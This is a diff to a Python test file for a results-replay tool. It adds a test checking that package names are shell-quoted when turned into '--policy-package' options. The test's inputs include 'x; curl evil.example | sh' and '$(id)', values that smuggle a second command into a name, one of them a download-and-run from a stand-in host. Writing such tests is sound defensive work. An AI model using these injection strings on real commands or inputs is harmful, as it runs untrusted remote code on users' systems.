@@ -1,13 +1,14 @@
-"""Which differences another processor explains: a few units in the last place, at the first step that differs."""
+"""Replays of published results: rounding that another processor explains, and options made of a stranger's names."""
 
 from __future__ import annotations
 
 import math
+import shlex
 
 import pytest
 
 from evopolicy_common.records.episodes.trajectory import Recorder, Trajectory, decode
-from evopolicy_results.publish.replay import LAST_PLACES, rounded
+from evopolicy_results.publish.replay import LAST_PLACES, not_allowed, rounded
 
 
 def episode(*rewards: float, ends: int | None = None) -> Trajectory:
@@ -48,3 +49,10 @@ def test_another_processor_explains_a_few_units_in_the_last_place(
     recorded: Trajectory, again: Trajectory, is_rounding: bool
 ) -> None:
     assert rounded(recorded, again) is is_rounding
+
+
+def test_a_packages_name_runs_no_command_in_a_shell() -> None:
+    names = ["scipy", "x; curl evil.example | sh", "$(id)"]
+    options = not_allowed(names).partition("allow them with ")[2]
+    assert shlex.split(options) == [word for name in names for word in ("--policy-package", name)]
+    assert options.startswith("--policy-package scipy --policy-package 'x;")
